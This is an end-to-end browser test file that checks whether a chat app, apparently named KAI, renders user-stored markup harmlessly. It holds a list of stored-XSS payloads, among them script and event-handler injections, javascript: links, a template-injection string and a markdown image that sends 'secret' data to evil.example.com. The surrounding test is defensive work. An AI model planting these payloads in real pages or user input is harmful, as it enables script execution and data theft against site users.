import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { PLAIN_URL, THIRD_USER } from './fixtures';
import { accessTokenOf, ask, signIn } from './helpers';

/**
 * Stored-XSS corpus: markup, event handlers, script URLs and image exfiltration, each placed where
 * a user can put text that KAI later renders (an uploaded document quoted in an answer, a
 * question, a chat title, a file name). None may run, and the browser may ask no outside host.
 */
const PAYLOADS = [
  '<script>alert("xss-script")</script>',
  '<img src=x onerror="alert(\'xss-img\')">',
  '<svg onload="alert(\'xss-svg\')"></svg>',
  '"><iframe src="javascript:alert(\'xss-iframe\')"></iframe>',
  "[click me](javascript:alert('xss-link'))",
  '<a href="javascript:alert(\'xss-anchor\')">open</a>',
  '![tracker](https://evil.example.com/leak.png?data=secret)',
  '<details open ontoggle="alert(\'xss-details\')">x</details>',
  '<math><mi xlink:href="javascript:alert(\'xss-math\')">m</mi></math>',
  '{{constructor.constructor("alert(\'xss-template\')")()}}',
];

test('markup a user stores never runs: in a quoted document, a question, a chat title and a file name', async ({ page }) => {
  test.setTimeout(120_000);
  const dialogs: string[] = [];
  const outside: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const host = new URL(request.url()).hostname;
    if (!['localhost', '127.0.0.1'].includes(host) && !request.url().startsWith('data:') && !request.url().startsWith('blob:'))
      outside.push(request.url());
  });

  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kai-e2e-xss-'));
  const file = path.join(dir, '<img src=x onerror=alert(1)>notes.csv');
  const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
  fs.writeFileSync(file, ['Topic,Note', ...PAYLOADS.map((p) => `Joint checks,${cell(`Joint checks for Apex Drywall: ${p}`)}`)].join('\n'));

  await page.goto(`${PLAIN_URL}/`);
  await signIn(page, THIRD_USER);
  await expect(page.getByText(THIRD_USER.name).first()).toBeVisible();

  await page.getByLabel('Choose files to upload').setInputFiles([file]);
  await page.getByRole('button', { name: 'Upload 1 file(s)' }).click();
  await expect(page.getByText('Upload successful', { exact: true })).toBeVisible();
  await page.getByRole('button', { name: 'Toggle context panel' }).click();
  await expect(page.getByRole('list', { name: 'Documents' }).getByText('Ready')).toHaveCount(1, { timeout: 60_000 });

  await page.getByRole('radio', { name: 'Uploaded Files' }).click();
  await ask(page, `Joint checks for Apex Drywall ${PAYLOADS[1]} ${PAYLOADS[0]}`);
  const log = page.getByRole('log', { name: 'Chat messages' });
  await expect(log.getByText('Retrieved passages').first()).toBeVisible();
  // The text is shown as text: the payload's own characters are on screen.
  await expect(log.getByText('onerror', { exact: false }).first()).toBeVisible();

  const token = await accessTokenOf(page);
  const rename = await page.request.patch(`${PLAIN_URL}/api/chat/sessions/1`, {
    headers: { authorization: `Bearer ${token}` },
    data: { title: PAYLOADS[2] },
  });
  expect(rename.status()).toBe(200);
  await page.reload();
  await expect(page.getByText(THIRD_USER.name).first()).toBeVisible();
  await expect(page.getByText('<svg onload', { exact: false }).first()).toBeVisible();
  await expect(log.getByText('Retrieved passages').first()).toBeVisible();

  const markers = await page.evaluate(() => ({
    scripts: document.querySelectorAll('main script, [role="log"] script').length,
    handlers: document.querySelectorAll('[onerror], [onload], [ontoggle]').length,
    scriptLinks: Array.from(document.querySelectorAll('a[href]')).filter((a) => /^\s*javascript:/i.test(a.getAttribute('href') ?? '')).length,
    frames: document.querySelectorAll('iframe').length,
  }));
  expect(markers).toEqual({ scripts: 0, handlers: 0, scriptLinks: 0, frames: 0 });
  expect(dialogs).toEqual([]);
  expect(outside).toEqual([]);
  fs.rmSync(dir, { recursive: true, force: true });
});
